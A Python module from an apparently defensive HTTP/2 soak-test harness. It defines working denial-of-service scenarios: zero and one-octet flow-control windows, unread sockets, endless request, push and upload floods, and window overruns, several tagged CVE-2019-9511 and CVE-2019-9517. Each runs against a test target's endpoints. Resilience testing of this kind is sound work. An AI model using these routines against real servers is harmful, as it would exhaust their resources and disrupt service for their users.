"""Responses that are asked for and not taken."""

from __future__ import annotations

from soak import frames as f
from soak.attacks.base import Attack, Target, collector
from soak.peer import odd

ATTACKS: list[Attack] = []
attack = collector(ATTACKS)

_WIDE = (f.INITIAL_WINDOW_SIZE, f.MOST)


def _ask(target: Target, path: bytes, window: int, count: int, seconds: float) -> None:
    """Ask for many responses with windows of one size, take nothing, and stay."""
    peer = target.dial()
    peer.hello((f.INITIAL_WINDOW_SIZE, window))
    peer.send(b"".join([f.request(n, path) for n in odd(count)]))
    peer.read_for(seconds)


@attack("90 responses of 16 MB, window 0", "CVE-2019-9511", calls=90)
def slow_read(target: Target) -> None:
    _ask(target, b"/made", 0, 90, 3)


@attack("90 responses of 16 MB made by coroutines, window 0", "CVE-2019-9511", calls=90)
def slow_read_of_coroutines(target: Target) -> None:
    _ask(target, b"/coroutine", 0, 90, 3)


@attack("90 responses of 16 MB, windows open, socket not read", "CVE-2019-9517", calls=90)
def data_dribble(target: Target) -> None:
    peer = target.dial(receive_buffer=4096)
    peer.hello(_WIDE)
    peer.send(b"".join([f.request(n, b"/coroutine") for n in odd(90)]), reading=False)
    peer.wait(3)


@attack("90 responses of 16 MB over TLS, socket not read", "CVE-2019-9517", calls=90)
def data_dribble_over_tls(target: Target) -> None:
    peer = target.dial(receive_buffer=4096, tls=True)
    peer.hello(_WIDE)
    peer.send(b"".join([f.request(n, b"/made") for n in odd(90)]), reading=False)
    peer.wait(3)


@attack("windows of one octet, again and again", "CVE-2019-9511", calls=1, patience=10)
def one_octet_windows(target: Target) -> None:
    peer = target.dial()
    peer.hello((f.INITIAL_WINDOW_SIZE, 0))
    peer.send(f.request(1, b"/made"))
    # fewer than the octets of work that they cause would pay for
    while True:
        peer.send(f.window_update(1, 1) * 1000)
        peer.read_for(0.001)


@attack("windows of one octet, answers not read", "CVE-2019-9511", calls=1, patience=10)
def one_octet_windows_unread(target: Target) -> None:
    peer = target.dial(receive_buffer=4096)
    peer.hello((f.INITIAL_WINDOW_SIZE, 0))
    peer.send(f.request(1, b"/made"), reading=False)
    while True:
        peer.send(f.window_update(1, 1) * 5000, reading=False)


@attack("small requests without end, responses not read", patience=15)
def requests_unread(target: Target) -> None:
    _endless_requests(target, b"/small")


@attack("requests for large heads without end, not read", patience=15)
def heads_unread(target: Target) -> None:
    _endless_requests(target, b"/head")


@attack("requests for large heads without end over TLS, not read", patience=15)
def heads_unread_over_tls(target: Target) -> None:
    _endless_requests(target, b"/head", tls=True)


@attack("unknown paths without end, responses not read", patience=15)
def unknown_paths_unread(target: Target) -> None:
    _endless_requests(target, b"/" + b"x" * 500)


def _endless_requests(target: Target, path: bytes, tls: bool = False) -> None:
    peer = target.dial(receive_buffer=4096, tls=tls)
    peer.hello(_WIDE)
    n = 1
    while n < f.MOST - 2000:
        peer.send(b"".join([f.request(k, path) for k in odd(500, n)]), reading=False)
        n += 1000


@attack("requests refused without end, not read", patience=15)
def refusals_unread(target: Target) -> None:
    peer = target.dial(receive_buffer=4096)
    peer.hello((f.INITIAL_WINDOW_SIZE, 0))
    peer.send(b"".join([f.request(n, b"/silent") for n in odd(100)]), reading=False)
    n = 201
    while n < f.MOST - 2000:
        peer.send(b"".join([f.request(k) for k in odd(500, n)]), reading=False)
        n += 1000


@attack("uploads ended early by the server, answers not read", patience=15)
def early_answers_unread(target: Target) -> None:
    peer = target.dial(receive_buffer=4096)
    peer.hello()
    n = 1
    while n < f.MOST - 2000:
        chunk = [f.request(k, b"/early", method=b"POST", end=False) for k in odd(500, n)]
        peer.send(b"".join(chunk), reading=False)
        n += 1000


@attack("uploads whose credit is not read", patience=15)
def credit_unread(target: Target) -> None:
    peer = target.dial(receive_buffer=4096)
    peer.hello()
    n = 1
    while n < f.MOST - 2000:
        peer.send(f.request(n, b"/sink", method=b"POST", end=False), reading=False)
        peer.send(f.data(n, bytes(16_000), end=True), reading=False)
        n += 2


@attack("pushes asked for without end, not read", patience=15)
def pushes_unread(target: Target) -> None:
    peer = target.dial(receive_buffer=4096)
    peer.hello((f.MAX_CONCURRENT_STREAMS, 2**31 - 1))
    n = 1
    while n < f.MOST - 2000:
        chunk = b"".join([f.request(k, b"/push_two") for k in odd(500, n)])
        peer.send(chunk, reading=False)
        n += 1000


@attack("pushes asked for that may not begin", patience=10)
def pushes_forbidden(target: Target) -> None:
    peer = target.dial()
    peer.hello((f.MAX_CONCURRENT_STREAMS, 0))
    n = 1
    while n < f.MOST - 2000:
        numbers = list(odd(50, n))
        peer.send(b"".join([f.request(k, b"/push_two") for k in numbers]))
        peer.read_until_answered(numbers)
        n += 100


@attack("uploads to a handler that reads slowly, all windows filled", patience=10)
def slow_handler(target: Target) -> None:
    peer = target.dial(target.slow)
    peer.hello()
    peer.send(b"".join([f.request(n, b"/", method=b"POST", end=False) for n in odd(100)]))
    for _ in range(60):
        for n in odd(100):
            if peer.credit >= 16_000:
                peer.credit -= 16_000
                peer.send(f.data(n, bytes(16_000)))
        peer.read_for(0.1)


@attack("more uploaded than the window allows", ends=True, patience=10)
def windows_ignored(target: Target) -> None:
    peer = target.dial(target.slow)
    peer.hello()
    peer.send(b"".join([f.request(n, b"/", method=b"POST", end=False) for n in odd(100)]))
    while True:
        peer.send(b"".join([f.data(n, bytes(16_384)) for n in odd(100)]))
